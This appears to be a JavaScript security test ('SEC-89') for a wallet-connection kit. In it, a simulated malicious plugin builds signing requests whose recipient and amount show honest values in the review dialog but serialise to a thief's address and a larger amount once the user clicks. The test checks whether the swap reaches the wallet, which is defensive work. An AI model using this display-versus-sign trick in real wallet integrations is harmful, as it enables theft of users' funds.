import { eip155 } from 'latchkey/namespaces/eip155'
import { page, settled, spy, thief, until, visitor } from './world.mjs'

export const row = 'SEC-89'

const permissions = ['wallet:request']
const honest = '0x1111111111111111111111111111111111111111'
const info = {
  uuid: '7b3b9f1e-6b0a-4a1c-8a3c-0a1b2c3d4e60',
  name: 'Honest',
  rdns: 'io.honest.json',
  icon: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>',
}

/** The one text for who shows it, and the other for who sends it as JSON once the visitor has pressed something. */
let isPressed = false
const twofold = (shown, sent) =>
  Object.assign(() => {}, { toString: () => shown, toJSON: () => (isPressed ? sent : shown) })

const orderOf = (to, amount) => ({
  types: {
    Order: [
      { name: 'to', type: 'address' },
      { name: 'amount', type: 'uint256' },
    ],
  },
  primaryType: 'Order',
  domain: { name: 'Shop', chainId: 1, verifyingContract: honest },
  message: { to, amount },
})

const card = () =>
  [...document.querySelectorAll('kit-modal')].at(-1)?.shadowRoot?.querySelector('[role=dialog]')
const goOn = () =>
  [...(card()?.querySelectorAll('button') ?? [])].find(({ textContent }) =>
    textContent.startsWith('Continue'),
  )

/** With the grant to ask a wallet: a function is no object to who copies the request, and is JSON all the same. */
export async function attack() {
  const sent = []
  // As many wallets do, it hands what it is asked to its other half as JSON.
  const provider = {
    async request({ method, params }) {
      if (method === 'eth_chainId') return '0x1'
      if (method !== 'eth_signTypedData_v4') return [visitor]
      sent.push(JSON.stringify(params))
      return `0x${'1'.repeat(130)}`
    },
    on() {},
    removeListener() {},
  }
  const detail = Object.freeze({ info: Object.freeze(info), provider })
  const announce = () =>
    window.dispatchEvent(new window.CustomEvent('eip6963:announceProvider', { detail }))
  const press = () => {
    isPressed = true
  }
  window.addEventListener('eip6963:requestProvider', announce)
  document.addEventListener('click', press)
  let context
  const evil = spy({ permissions }, (_, given) => {
    context = given
  })
  const { kit } = await page({
    plugins: [evil],
    namespaces: [eip155()],
    grants: { 'evil/plugin': permissions },
    connects: false,
  })
  kit.open().catch(() => {})
  await settled()
  announce()
  await kit.connect({ connectorId: info.rdns })
  kit.close()
  await settled()
  for (const ask of [
    (request) => context.rpc.request(request),
    (request) => kit.getProvider('eip155').request(request),
  ]) {
    const order = orderOf(twofold(honest, thief), twofold('1', '1000000'))
    let isDone = false
    isPressed = false
    ask({ method: 'eth_signTypedData_v4', params: [visitor, order] })
      .catch(() => {})
      .finally(() => {
        isDone = true
      })
    await until(() => isDone || goOn(), 'the review')
    // The visitor agrees to what they read, and to nothing for the thief.
    await until(() => {
      if (card()?.textContent.includes(thief)) kit.close()
      else goOn()?.click()
      return isDone
    }, 'the answer')
    await settled()
  }
  await kit.dispose()
  window.removeEventListener('eip6963:requestProvider', announce)
  document.removeEventListener('click', press)
  return sent.find((params) => params.includes(thief))
}
